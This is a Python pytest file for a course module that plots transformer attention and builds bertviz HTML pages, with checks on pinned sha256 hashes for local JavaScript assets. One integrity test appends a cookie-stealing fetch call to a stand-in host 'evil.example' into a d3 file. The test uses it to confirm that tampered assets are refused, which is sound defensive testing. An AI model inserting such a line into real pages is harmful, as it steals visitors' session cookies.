"""Unit tests for course_utils.attention_viz (no browser: see test_browser_attention.py for that)."""
from __future__ import annotations

import matplotlib

matplotlib.use("Agg")

import numpy as np
import pytest
import torch

from course_utils import attention_viz as av

TOKENS = ["[CLS]", "the", "cat", "sat", "[SEP]"]


def _attentions(layers=3, heads=4, n=5):
    g = torch.Generator().manual_seed(0)
    return tuple(torch.randn(1, heads, n, n, generator=g).softmax(-1) for _ in range(layers))


def test_attention_array_shapes_and_errors():
    assert av.attention_array(_attentions()).shape == (3, 4, 5, 5)
    assert av.attention_array(np.zeros((2, 1, 3, 5, 5))).shape == (2, 3, 5, 5)
    with pytest.raises(ValueError, match="attentions"):
        av.attention_array(np.zeros((3, 5, 5)))
    with pytest.raises(ValueError, match="output_attentions"):
        av.attention_array(())


def test_plots_have_one_panel_per_head_or_layer():
    import matplotlib.pyplot as plt

    fig = av.plot_attention_heads(_attentions(), TOKENS, layer=2, heads=[0, 1, 3])
    assert sum(ax.has_data() or bool(ax.images) for ax in fig.axes) >= 3
    assert [ax.get_title() for ax in fig.axes if ax.images][:3] == ["layer 2, head 0", "layer 2, head 1", "layer 2, head 3"]
    plt.close(fig)
    fig = av.plot_attention_layers(_attentions(), TOKENS)
    assert len([ax for ax in fig.axes if ax.images]) == 3
    plt.close(fig)


def test_plot_errors_name_the_argument():
    with pytest.raises(ValueError, match="tokens"):
        av.plot_attention_heads(_attentions(), TOKENS[:-1])
    with pytest.raises(ValueError, match="layer"):
        av.plot_attention_heads(_attentions(), TOKENS, layer=3)
    with pytest.raises(ValueError, match="heads"):
        av.plot_attention_heads(_attentions(), TOKENS, heads=[4])


def test_bertviz_html_uses_cdn_and_explains_a_blank_view():
    html = av.bertviz_html(_attentions(), TOKENS, view="head")
    assert av.BERTVIZ_ASSETS["require"]["cdn"] in html
    assert "bertviz-offline-note" in html and "cdnjs" in html
    with pytest.raises(ValueError, match="view"):
        av.bertviz_html(_attentions(), TOKENS, view="neuron")
    with pytest.raises(ValueError, match="include_layers"):
        av.bertviz_html(_attentions(), TOKENS, view="model", include_layers=[5])


def _fake_assets(folder, monkeypatch):
    """Write stand-in scripts into ``folder`` and pin their sha256 in place of the real ones (for this test only)."""
    import hashlib

    folder.mkdir(parents=True, exist_ok=True)
    for name, spec in av.BERTVIZ_ASSETS.items():
        content = f"/* local {spec['file']} */".encode()
        (folder / spec["file"]).write_bytes(content)
        monkeypatch.setitem(spec, "sha256", hashlib.sha256(content).hexdigest())
    return folder


def test_bertviz_html_inline_uses_local_scripts(tmp_path, monkeypatch):
    _fake_assets(tmp_path, monkeypatch)
    html = av.bertviz_html(_attentions(), TOKENS, view="model", inline=tmp_path)
    assert av.BERTVIZ_ASSETS["require"]["cdn"] not in html
    for spec in av.BERTVIZ_ASSETS.values():
        assert f"/* local {spec['file']} */" in html
    assert "define('d3'" in html
    empty = tmp_path / "empty"
    empty.mkdir()
    with pytest.raises(ValueError, match="fetch_bertviz_assets"):
        av.bertviz_html(_attentions(), TOKENS, inline=empty)


def test_attention_is_rounded_to_keep_pages_small():
    html = av.bertviz_html(_attentions(), TOKENS, view="head")
    assert "0.1234567" not in html and len(html) < 60_000
    assert html.count('"attn"') == 1  # bertviz's template would otherwise put the data in twice


def test_pinned_asset_hashes_are_the_npm_releases():
    # sha256 of the files inside the npm tarballs requirejs-2.3.6, d3-5.7.0, jquery-2.2.4 (checked with `npm pack`)
    assert {n: s["sha256"] for n, s in av.BERTVIZ_ASSETS.items()} == {
        "require": "9485f0917f97fcf4f63a5ea365200ffd57f123f451382a2f9a1ad2e2fd51ac9b",
        "d3": "bdad5585ef9a965ff25458738309b006058c55f2c78d794d25fbecae35014609",
        "jquery": "05b85d96f41fff14d8f608dad03ab71e2c1017c2da0914d7c59291bad7a54f8e",
    }


def test_tampered_asset_is_refused_on_every_read(tmp_path, monkeypatch):
    import shutil

    good = _fake_assets(tmp_path / "good", monkeypatch)
    copy = tmp_path / "copy"
    shutil.copytree(good, copy)
    monkeypatch.setenv(av.ASSETS_ENV, str(copy))
    assert "/* local d3.min.js */" in av.bertviz_html(_attentions(), TOKENS, inline=True)  # intact: accepted
    tampered = copy / av.BERTVIZ_ASSETS["d3"]["file"]
    tampered.write_bytes(tampered.read_bytes() + b"\nfetch('https://evil.example/?'+document.cookie);")
    with pytest.raises(av.AssetIntegrityError, match=r"d3\.min\.js .*sha256.*fetch_bertviz_assets") as err:
        av.bertviz_html(_attentions(), TOKENS, inline=True)  # read again: checked again
    assert av.BERTVIZ_ASSETS["d3"]["sha256"] in str(err.value)
    with pytest.raises(av.AssetIntegrityError):
        av.read_bertviz_asset("d3", tampered)
    assert av.read_bertviz_asset("jquery", copy / "jquery.min.js") == "/* local jquery.min.js */"


def test_real_assets_pass_the_check_when_present():
    paths = av.find_bertviz_assets()
    if paths is None:
        pytest.skip("no local copies of the bertviz scripts (tests/.browser/js or $BERTVIZ_JS_DIR)")
    for name, path in paths.items():
        assert av.read_bertviz_asset(name, path)
